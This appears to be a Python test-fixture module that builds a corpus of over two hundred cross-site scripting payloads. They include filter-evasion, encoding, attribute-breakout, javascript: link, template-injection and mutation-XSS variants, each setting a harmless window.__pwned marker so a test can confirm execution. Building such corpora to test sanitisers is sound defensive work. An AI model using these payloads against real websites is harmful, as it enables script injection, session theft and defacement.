"""Two hundred and more payloads that set ``window.__pwned`` where they are executed.

Each is a text and the place in a page where it would be executed, were it put there as it is. ``test_xss.py`` shows
that every one of them is real: in a page without protection it does what it says.
"""

import html
from collections.abc import Iterator
from typing import Any, NamedTuple

SET = "window.__pwned=1"
SPELLINGS = (
    SET,
    "self['__pwned']=1",
    "globalThis.__pwned=1",
    "top.__pwned=1",
    "parent['__pw'+'ned']=1",
    "Reflect.set(window,'__pwned',1)",
    "Object.assign(window,{__pwned:1})",
    "[1].map(n=>window.__pwned=n)",
    "setTimeout('window.__pwned=1')",
    "Function('window.__pwned=1')()",
    "(0,eval)('window.__pwned=1')",
    "with(window)__pwned=1",
    "({get x(){window.__pwned=1}}).x",
    "`${window.__pwned=1}`",
    "\\u0077indow.__pwned=1",
    "window[atob('X19wd25lZA==')]=1",
    "window[`__${'denwp'.split``.reverse().join``}`]=1",
    "{let a=window;a.__pwned=1}",
    "new class{constructor(){window.__pwned=1}}",
    "throw window.__pwned=1",
)
IMAGE = f"<img src=x onerror={SET}>"


class Payload(NamedTuple):
    """A text, and the place where it would be executed: one of ``test_xss.PLACES``."""

    text: str
    place: str = "body"


def _entities(text: str, form: str = "&#{};") -> str:
    return "".join(form.format(ord(letter)) for letter in text)


def _scripts() -> Iterator[str]:
    yield from (f"<script>{spelling}</script>" for spelling in SPELLINGS)
    for name in ("ScRiPt", "script ", "script/x", "script\tx", "script x='>'", "script type=module"):
        yield f"<{name}>{SET}</script >"
    yield from (
        f"<<script>{SET}//<</script>",
        f"<script>\n//{'x' * 300}\n{SET}</script>",
        f"<script>{SET}<!--</script>",
    )
    yield from (f"<script>/*</textarea>*/{SET}</script>", f"<p><b><script>{SET}</script>")
    yield f"<script src=data:text/javascript,{SET}></script>"
    yield f"<script src='data:,{SET}'></script>"
    yield "<script src=data:text/javascript;base64,d2luZG93Ll9fcHduZWQ9MQ==></script>"
    yield f"<svg><script>{SET}</script></svg>"
    yield f"<svg><script>{_entities(SET)}</script></svg>"
    yield f"<svg><script><![CDATA[{SET}]]></script></svg>"
    yield f"<svg><script href=data:,{SET} />"
    yield f"<script>import('data:text/javascript,{SET}')</script>"


def _images() -> Iterator[str]:
    yield from (f'<img src=x onerror="{spelling}">' for spelling in SPELLINGS)
    yield from (f"<img/src='x'/onerror={SET}>", f"<img src=x onerror\n=\n{SET}>", f"<IMG SRC=x ONERROR={SET}>")
    yield from (f"<img src=x onerror={SET}//", f"<img\fsrc=x\fonerror={SET}>", f"<img onerror={SET} src>")
    yield from (f"<image src=x onerror={SET}>", f"<img srcset=x onerror={SET}>", f"<img src=x: onerror={SET}>")
    yield from (
        f"<img src=data:, onerror={SET}>",
        f"<img/ /src=x onerror={SET} alt=''>",
        f'<img """><script>{SET}</script>">',
    )
    yield from (f"<img src=x onerror={_entities(SET)}>", f"<img src=x onerror={_entities(SET, '&#x{:x};')}>")
    yield f"<img src=x onerror={_entities(SET, '&#0000{}')}>"
    yield "<img src=x onerror=window&period;__pwned&equals;1>"
    yield f"<img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA= onload={SET}>"
    yield f"<picture><source srcset=x><img onerror={SET}></picture>"
    yield f"<table><tr><td><img src=x onerror={SET}></table>"
    yield f"\u202e<img src=x onerror={SET}>\u202c"
    yield f"\ufeff<img src=x onerror={SET}>\u200b\u2066"
    yield f"č♯‴{'é' * 40}<img src=x onerror={SET}>"


def _events() -> Iterator[str]:
    for tag in ("svg", "body", "iframe", "style"):
        yield f"<{tag} onload={SET}></{tag}>"
    yield from (f"<svg/onload={SET}>", f"<svg onload={SET}//", f"<svg\tonload\t=\t'{SET}'>", f"<body onpageshow={SET}>")
    for tag in ("input", "select", "textarea", "button", "keygen tabindex=1", "x tabindex=1", "p contenteditable"):
        yield f"<{tag} autofocus onfocus={SET}>x"
    yield from (
        f"<a href=# autofocus onfocus={SET}>x</a>",
        f"<svg><a href=# autofocus onfocus={SET}><text>x</text></a></svg>",
    )
    yield from (f"<input autofocus onfocusin={SET}>", f"<details open ontoggle={SET}>x</details>")
    yield from (f"<video src=x onerror={SET}></video>", f"<audio src=x onerror={SET}></audio>")
    yield from (f"<video><source src=x onerror={SET}></video>", f"<audio><source onerror={SET} src=x></audio>")
    yield from (f"<script src=x onerror={SET}></script>", f"<link rel=stylesheet href=x onerror={SET}>")
    yield from (f"<link rel=stylesheet href=data:text/css, onload={SET}>", f"<object data=x onerror={SET}></object>")
    yield from (
        f"<svg><animate attributeName=x dur=1s onbegin={SET}></svg>",
        f"<svg><set attributeName=x onbegin={SET}></svg>",
    )
    yield f"<svg><image href=x onerror={SET}></svg>"
    yield f"<svg><animate attributeName=x dur=0.01s repeatCount=2 onrepeat={SET}></svg>"
    yield f"<svg><animate attributeName=x dur=0.01s onend={SET}></svg>"
    yield f"<input type=image src=x onerror={SET}>"
    yield f"<embed src=data:text/html, onload={SET}>"
    yield f"<iframe src=data:, onload={SET}></iframe>"
    yield f"<p style=content-visibility:auto oncontentvisibilityautostatechange={SET}>x</p>"


def _frames() -> Iterator[str]:
    inner = f"<script>parent.{SET[7:]}</script>"
    yield f'<iframe srcdoc="{inner}"></iframe>'
    yield f"<iframe srcdoc='{html.escape(inner)}'></iframe>"
    yield f"<iframe srcdoc={_entities(inner)}></iframe>"
    yield "<iframe src='javascript:parent.__pwned=1'></iframe>"
    yield "<iframe src='JaVa\tScRiPt:parent.__pwned=1'></iframe>"
    yield "<iframe src=&#106;avascript&colon;parent.__pwned&equals;1></iframe>"


def _styles() -> Iterator[str]:
    frames = "<style>@keyframes k{to{color:red}}</style>"
    yield f"{frames}<p style='animation:k 1s' onanimationstart={SET}>x</p>"
    yield f"{frames}<p style='animation:k 10ms' onanimationend={SET}>x</p>"
    yield f"{frames}<p style='animation:k 100ms 3' onanimationiteration={SET}>x</p>"
    yield f"{frames}<p style='animation-name:k;animation-duration:1s' onwebkitanimationstart={SET}>x</p>"
    yield f"<style>p{{color:red}}/*</style>{IMAGE}*/"
    yield f"<style>{{}}</style ><svg onload={SET}>"


def _breakouts() -> Iterator[Payload]:
    """Yield what ends the element or attribute that it stands in."""
    for element in ("title", "textarea", "style", "script", "noscript", "template", "xmp", "noembed"):
        yield Payload(f"</{element}>{IMAGE}", element)
        yield Payload(f"</{element.upper()} x><svg onload={SET}>", element)
    yield from (Payload(text, "comment") for text in (f"-->{IMAGE}", f"--!>{IMAGE}", f">{IMAGE}"))
    yield from (Payload(f"{IMAGE}{end}", "svg") for end in ("", "</svg>", "<![CDATA["))
    focus = f"autofocus onfocus={SET}"
    for quote, place in (('"', "double"), ("'", "single")):
        yield Payload(f"{quote}>{IMAGE}", place)
        yield Payload(f"{quote}><script>{SET}</script>", place)
        yield Payload(f"{quote} {focus} x={quote}", place)
        yield Payload(f"{quote}/autofocus/onfocus={quote}{SET}", place)
        yield Payload(f"{quote}\t{focus}\tx={quote}", place)
        yield Payload(f"{quote}\n{focus}\n", place)
        yield Payload(f"x{quote}{focus} {quote}", place)
        yield Payload(f"{quote} type=image src=x onerror={SET} y={quote}", place)
        yield Payload(f"\\{quote}><svg/onload={SET}>", place)
    yield from (
        Payload(text, "bare") for text in (f"x {focus}", f"x\t{focus}", f"x>{IMAGE}", f"` {focus} `", f"x/ {focus}")
    )


def _links() -> Iterator[Payload]:
    for text in (
        f"javascript:{SET}",
        f"JaVaScRiPt:{SET}",
        f"java\tscript:{SET}",
        f"java\nscript:{SET}",
        f"java\rscript:{SET}",
        f"\x01javascript:{SET}",
        f"\x1f \tjavascript:{SET}",
        f" javascript:{SET}",
        f"javascript :{SET}".replace(" :", "\t:"),
        f"javascript:/*x*/{SET}",
        f"javascript://%0a{SET}",
        f"javascript://example.org/%E2%80%A8{SET}",
        "javascript:%77indow.__pwned=1",
        f"javascript:void({SET})",
        f"javascript:'x';{SET}//https://example.org/",
        f"&#106;avascript:{SET}",
        f"javascript&colon;{SET}",
        f"java&Tab;script:{SET}",
        f"java&NewLine;script&colon;{SET}",
    ):
        yield Payload(text, "href")


def _strings() -> Iterator[Payload]:
    """Yield what leaves a string, a template or a comment of a script."""
    yield from (Payload(text, "js-double") for text in (f'";{SET}//', f'"-({SET})-"', f'"+[{SET}]+"'))
    yield from (Payload(text, "js-single") for text in (f"';{SET}//", f"'-({SET})-'", f"'||({SET})||'"))
    yield from (Payload(text, "js-template") for text in (f"${{{SET}}}", f"`;{SET}//", f"${{[{SET}]}}"))
    yield from (Payload(f"{end}{SET}", "js-comment") for end in ("\n", "\r", "\u2028", "\u2029"))
    yield from (Payload(f"</script><script>{SET}</script>", place) for place in ("js-double", "js-single"))
    yield Payload(f'\\";{SET}//', "js-escaped")


def _templates() -> Iterator[Payload]:
    """Yield what a template engine would make a script of."""
    script = f"<script>{SET}</script>"
    spelt = script.replace("<", "\\x3c")
    yield Payload(f"{{{{ '{spelt}' }}}}", "engine")
    yield Payload(f"{{{{ '{spelt}'|safe }}}}", "engine")
    yield Payload(f"{{{{ ['{spelt}']|join }}}}", "engine")
    yield Payload(f"{{% print '{spelt}' %}}", "engine")
    yield Payload(f"{{% set x = '{spelt}' %}}{{{{ x }}}}", "engine")
    yield Payload(f"{{% filter lower %}}{script.upper().replace(SET.upper(), SET)}{{% endfilter %}}", "engine")
    yield Payload(f"{{{{ 'script'|replace('script', '{spelt}') }}}}", "engine")
    yield Payload("{{ '%c%s%c%s%c/%s%c'|format(60,'script',62,'window.__pwned=1',60,'script',62) }}", "engine")


def _normalised() -> Iterator[Payload]:
    """Yield what becomes markup when letters of full width are made plain."""
    wide = str.maketrans({letter: chr(ord(letter) + 0xFEE0) for letter in "<>\"'=/()"})
    for text in (f"<script>{SET}</script>", IMAGE, f"<svg/onload={SET}>", f"<iframe onload={SET}>"):
        yield Payload(text.translate(wide), "normalised")
    yield Payload(f"\ufe64img src=x onerror={SET}\ufe65", "normalised")
    yield Payload("\uff1c\uff53cript\uff1e\uff57indow.__pwned\uff1d1\uff1c/\uff53cript\uff1e", "normalised")


def _mutating() -> Iterator[Payload]:
    """Yield what is harmless where it is read without scripts, and is not when that is written out and read again."""
    attack = "<img src=x onerror=window.__pwned=1>"
    yield Payload(f'<noscript><p title="</noscript>{attack}"></noscript>')
    yield Payload(f"<noscript><i id='</noscript>{attack}'></i></noscript>")
    yield Payload(f'<noscript><a class="</noscript><svg onload={SET}>">')
    yield Payload(f"<form><math><mtext></form><form><mglyph><style></math>{attack}", "mutated")
    yield Payload(f'<svg></p><style><i id="</style>{attack}">', "mutated")
    yield Payload(f"<math><mi></p><style><i title='</style>{attack}'>", "mutated")


def _all() -> Iterator[Payload]:
    for family in (_scripts, _images, _events, _frames, _styles):
        yield from map(Payload, family())
    for other in (_breakouts, _links, _strings, _templates, _normalised, _mutating):
        yield from other()


PAYLOADS = tuple(dict.fromkeys(_all()))
TEXTS = tuple(dict.fromkeys(payload.text for payload in PAYLOADS))


def executed(page: Any) -> bool:
    """Tell whether a payload was executed in the page, or in a frame of it."""
    return any(frame.evaluate("window.__pwned !== undefined") for frame in page.frames)
